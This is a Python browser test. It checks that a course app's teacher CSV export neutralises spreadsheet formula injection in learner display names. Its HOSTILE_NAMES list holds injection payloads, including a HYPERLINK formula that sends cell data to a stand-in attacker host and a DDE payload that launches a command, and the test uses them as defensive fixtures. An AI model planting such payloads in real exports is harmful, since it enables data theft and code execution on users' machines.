"""The Class grid's own toolbar "Download as CSV", read in headless Chromium: no display name a
learner chose comes out of it as a spreadsheet formula (leading whitespace and the full-width
＝＋－＠ included). The real server in shared mode, a real OpenID Connect provider, the teacher
logged in through it."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest

from course.store import ENV_VAR, Attempt, ProgressStore
from course.store.progress import FORMULA_STARTS
from tests.support.serve import AppServer, auth_secrets, free_port
from tests.browser.test_login import chromium, log_in

pytestmark = pytest.mark.browser
DEAL = "hpd-1-bring-in-suit-tie"
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Ava")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)", "-2+3", " =1+1", "\u3000=1+1", "\uff1d1+1", "\uff0bcmd",
                 "\uff0d2", "\uff20SUM(1)"]


def is_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(FORMULA_STARTS)


def grid_csv(browser, downloads: Path) -> str:
    """Hover the page's first grid (Class: mastery per skill), press its toolbar's "Download as
    CSV", and read the file it saves."""
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from tests.support.browser_wait import WebDriverWait

    wait = WebDriverWait(browser, 60)
    grid = wait.until(ec.presence_of_element_located(
        (By.XPATH, "(//div[@data-testid='stDataFrame'])[1]")))
    # no File System Access dialog in a headless browser: the grid falls back to a download
    browser.execute_script("delete window.showSaveFilePicker;")
    ActionChains(browser).move_to_element(grid).perform()
    button = wait.until(ec.element_to_be_clickable(
        (By.XPATH, "(//button[@aria-label='Download as CSV'])[1]")))
    button.click()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        done = [p for p in downloads.glob("*.csv")]
        if done and not list(downloads.glob("*.crdownload")):
            return done[0].read_text(encoding="utf-8-sig")
        time.sleep(0.2)
    raise AssertionError(f"no CSV was downloaded: {list(downloads.iterdir())}")


def test_the_class_grids_own_csv_download_holds_no_formula(provider, tmp_path):
    port = free_port()
    secrets = auth_secrets(tmp_path / "secrets.toml", port, provider, '[roles]\nteachers = ["tia"]\n')
    db = tmp_path / "p.db"
    store = ProgressStore(db)
    issuer = provider.rstrip("/")
    for n, name in enumerate(HOSTILE_NAMES):
        key = f"{issuer}#learner-{n}"
        store.save_learner(key, name)
        store.record(Attempt(key, DEAL, 0, "bring_in", "bring-in", "Ben", bool(n % 2)))
    store.close()
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    with AppServer({ENV_VAR: str(db)}, log=tmp_path / "app.log", secrets=secrets,
                   host="localhost", port=port) as app:
        browser = chromium(tmp_path / "tia")
        try:
            browser.execute_cdp_cmd("Browser.setDownloadBehavior",
                                    {"behavior": "allow", "downloadPath": str(downloads)})
            log_in(browser, app.url, "tia")
            browser.get(f"{app.url}/class")
            body = grid_csv(browser, downloads)
        finally:
            browser.quit()
    rows = list(csv.reader(io.StringIO(body)))
    learners = [row[0] for row in rows[1:]]
    assert len(learners) == len(HOSTILE_NAMES), rows
    assert not [c for row in rows for c in row if is_formula(c)], rows
    assert sorted(learners) == sorted("'" + name for name in HOSTILE_NAMES)
